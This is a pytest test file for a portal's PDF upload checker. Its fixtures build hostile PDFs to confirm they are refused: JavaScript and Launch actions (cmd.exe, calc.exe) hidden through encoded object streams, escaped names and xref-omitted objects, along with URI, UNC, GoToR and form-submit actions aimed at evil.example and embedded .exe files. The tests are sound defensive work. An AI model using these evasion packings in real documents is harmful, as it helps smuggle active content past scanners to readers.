"""PDF active content is found on pypdf's parsed objects: scripts and outside actions are refused
however they are packed (object streams through ASCIIHex, ASCII85 and Flate filters, dictionaries
padded before ``stream``, #-escaped names, objects the xref table leaves out, action types given
by reference), automatic actions other than a plain jump are refused, and ordinary PDFs (demo
documents, web links the reader clicks, an opening page, owner-only encryption) are accepted."""
from __future__ import annotations

import time

import pytest

from portal import pdfcheck
from portal.errors import DomainError
from portal.files import PDF, inspect_upload

from .pdfs import PAGE, PAGES, assemble, catalog, packed, simple, with_writer

MAX = 20 * 1024 * 1024
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
IMAGE_BYTES = b"\x89\x00/JS /Launch (x)" * 50


def link(action: bytes) -> bytes:
    return b"/Annots[<</Type/Annot/Subtype/Link/Rect[50 50 200 70]/A" + action + b">>]"


def _writer_attachment(writer, page):
    writer.add_attachment("hoa-don.exe", b"MZ\x90\x00")


def _writer_link(url):
    def build(writer, page):
        from pypdf.annotations import Link

        writer.add_annotation(0, Link(rect=(50, 50, 200, 70), url=url))
    return build


def _writer_open_page(writer, page):
    writer.open_destination = page


def _writer_encrypt(user):
    def build(writer, page):
        writer.encrypt(user_password=user, owner_password="chu-so-huu", algorithm="RC4-128")
    return build


ACTIVE = {
    # the bypasses
    "javascript in an ASCIIHex object stream": lambda: packed(
        [catalog(b"/OpenAction 4 0 R"), PAGES, PAGE % b""], [JS], filters=("ASCIIHexDecode",)),
    "javascript in an ASCIIHex+Flate object stream": lambda: packed(
        [catalog(b"/OpenAction 4 0 R"), PAGES, PAGE % b""], [JS], filters=("ASCIIHexDecode", "FlateDecode")),
    "object stream padded 600 bytes before stream": lambda: packed(
        [catalog(b"/OpenAction 4 0 R"), PAGES, PAGE % b""], [JS], pad=600),
    "URI open action": lambda: simple(b"/OpenAction<</S/URI/URI(https://evil.example/x)>>"),
    "URI open action by reference": lambda: simple(b"/OpenAction 4 0 R", more=[b"<</S/URI/URI(https://evil.example/)>>"]),
    "GoToR in a page's additional actions": lambda: simple(
        page_extra=b"/AA<</O<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>>>"),
    # the cases the byte filter already knew, now through real files
    "javascript open action": lambda: simple(b"/OpenAction" + JS),
    "#-escaped javascript": lambda: simple(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "javascript in a Flate object stream": lambda: packed([catalog(b"/OpenAction 4 0 R"), PAGES, PAGE % b""], [JS]),
    "javascript in an ASCII85+Flate object stream": lambda: packed(
        [catalog(), PAGES, PAGE % link(b" 4 0 R")], [JS], filters=("ASCII85Decode", "FlateDecode")),
    "launch open action": lambda: simple(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "embedded file": lambda: simple(b"/Names<</EmbeddedFiles 4 0 R>>", more=[
        b"<</Names[(a.exe) 5 0 R]>>", b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>",
        b"<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream"]),
    "embedded file (pypdf writer)": lambda: with_writer(_writer_attachment),
    "document-level javascript": lambda: simple(b"/Names<</JavaScript 4 0 R>>", more=[b"<</Names[(x) 5 0 R]>>", JS]),
    # more of the same principle
    "javascript link": lambda: simple(page_extra=link(JS)),
    "launch link": lambda: simple(page_extra=link(b"<</S/Launch/F(calc.exe)>>")),
    "javascript: address in a link": lambda: simple(page_extra=link(b"<</S/URI/URI(javascript:app.alert\\(1\\))>>")),
    "file: address in a link": lambda: simple(page_extra=link(b"<</S/URI/URI(file:///C:/Windows/calc.exe)>>")),
    "UNC path in a link": lambda: simple(page_extra=link(b"<</S/URI/URI(\\\\\\\\evil.example\\\\x)>>")),
    "submit form": lambda: simple(page_extra=link(b"<</S/SubmitForm/F<</FS/URL/F(https://evil.example/)>>>>")),
    "XFA form": lambda: simple(b"/AcroForm<</Fields[]/XFA 4 0 R>>", more=[b"<</Length 7>>stream\n<xdp/>\nendstream"]),
    "page-open additional action": lambda: simple(page_extra=b"/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>"),
    "jump on opening chaining a URI": lambda: simple(
        b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example/)>>>>"),
    "action type given by reference": lambda: simple(page_extra=link(b"<</S 4 0 R/F(calc.exe)>>"), more=[b"/Launch"]),
    "script in an object the xref table leaves out": lambda: assemble(
        [catalog(b"/OpenAction 4 0 R"), PAGES, PAGE % b"", b"<</S/GoTo/D[3 0 R/Fit]>>"],
        stray=b"4 0 obj\n" + JS + b"\nendobj\n"),
    "file attachment annotation": lambda: simple(
        page_extra=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS(a.exe)>>]"),
    "rich media annotation": lambda: simple(page_extra=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"),
}


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_active_content_refused(name):
    data = ACTIVE[name]()
    assert pdfcheck.pdf_problem(data) == pdfcheck.ACTIVE
    with pytest.raises(DomainError) as exc:
        inspect_upload(data, {PDF}, MAX)
    assert "mã lệnh" in str(exc.value)


ORDINARY = {
    "demo document": lambda: _demo(),
    "web link (pypdf writer)": lambda: with_writer(_writer_link("https://thuvienphapluat.vn/van-ban/Luat-10-2022-QH15")),
    "mail link (pypdf writer)": lambda: with_writer(_writer_link("mailto:ubnd@phuong-hoa-an.example.vn")),
    "opens on its first page (pypdf writer)": lambda: with_writer(_writer_open_page),
    "plain jump on opening": lambda: simple(b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "links in an ASCIIHex+Flate object stream": lambda: packed(
        [catalog(), PAGES, PAGE % b"/Annots[4 0 R 5 0 R]"],
        [b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://phuong-hoa-an.example.vn/)>>>>",
         b"<</Type/Annot/Subtype/Link/Rect[0 9 9 18]/Dest[3 0 R/Fit]>>"],
        filters=("ASCIIHexDecode", "FlateDecode")),
    "owner password only (pypdf writer)": lambda: with_writer(_writer_encrypt("")),
    "image stream whose bytes spell /JS /Launch": lambda: simple(
        page_extra=b"/Resources<</XObject<</Im1 4 0 R>>>>",
        more=[b"<</Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray"
              b"/Filter/DCTDecode/Length %d>>stream\n%s\nendstream" % (len(IMAGE_BYTES), IMAGE_BYTES)]),
}


def _demo() -> bytes:
    from demo.minipdf import make_pdf

    return make_pdf("Thông báo lịch tiếp công dân", ["Lịch tiếp công dân tháng 12"] * 80)


@pytest.mark.parametrize("name", sorted(ORDINARY))
def test_ordinary_pdf_accepted(name):
    data = ORDINARY[name]()
    assert pdfcheck.pdf_problem(data) is None
    assert inspect_upload(data, {PDF}, MAX) == PDF


def test_password_protected_pdf_refused_with_reason():
    with pytest.raises(DomainError) as exc:
        inspect_upload(with_writer(_writer_encrypt("mat-khau")), {PDF}, MAX)
    assert str(exc.value) == pdfcheck.PASSWORD


def test_pdf_pypdf_cannot_read_refused_with_reason():
    data = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n%%EOF\n"  # no cross-reference table at all
    with pytest.raises(DomainError) as exc:
        inspect_upload(data, {PDF}, MAX)
    assert str(exc.value) == pdfcheck.UNREADABLE


AMBIGUOUS = {
    "a key given twice (a viewer may take the second)": lambda: simple(
        page_extra=link(b"<</S/URI/URI(https://phuong.example.vn/)/S/Launch/F(calc.exe)>>")),
    "a dictionary pypdf could read only in part": lambda: simple(
        page_extra=link(b"<</S/URI/URI(https://phuong.example.vn/) 5 /S/Launch/F(calc.exe)>>")),
    "an object the xref table leaves out, with a key given twice": lambda: assemble(
        [catalog(), PAGES, PAGE % b"/Annots[4 0 R]", b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/Dest[3 0 R/Fit]>>"],
        stray=b"4 0 obj\n<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://a.vn/)/S/Launch/F(x.exe)>>>>"
              b"\nendobj\n"),
    "a stream longer than its /Length says": lambda: simple(
        more=[b"<</Length 4>>stream\n<</S/JavaScript/JS(app.alert(1))>>\nendstream"]),
}


@pytest.mark.parametrize("name", sorted(AMBIGUOUS))
def test_pdf_objects_read_only_leniently_are_refused(name):
    """Objects are parsed strictly: what pypdf would only guess at, a viewer may read otherwise."""
    with pytest.raises(DomainError) as exc:
        inspect_upload(AMBIGUOUS[name](), {PDF}, MAX)
    assert str(exc.value) == pdfcheck.UNREADABLE


def test_object_count_is_capped_and_quick():
    """An object stream of 100,001 tiny objects is refused as too complex, within a few seconds."""
    members = [b"null"] * (pdfcheck.MAX_OBJECTS + 1)
    data = packed([catalog(), PAGES, PAGE % b""], members)
    assert len(data) < 2 * 1024 * 1024
    start = time.perf_counter()
    with pytest.raises(DomainError) as exc:
        inspect_upload(data, {PDF}, MAX)
    assert str(exc.value) == pdfcheck.TOO_COMPLEX
    assert time.perf_counter() - start < 10
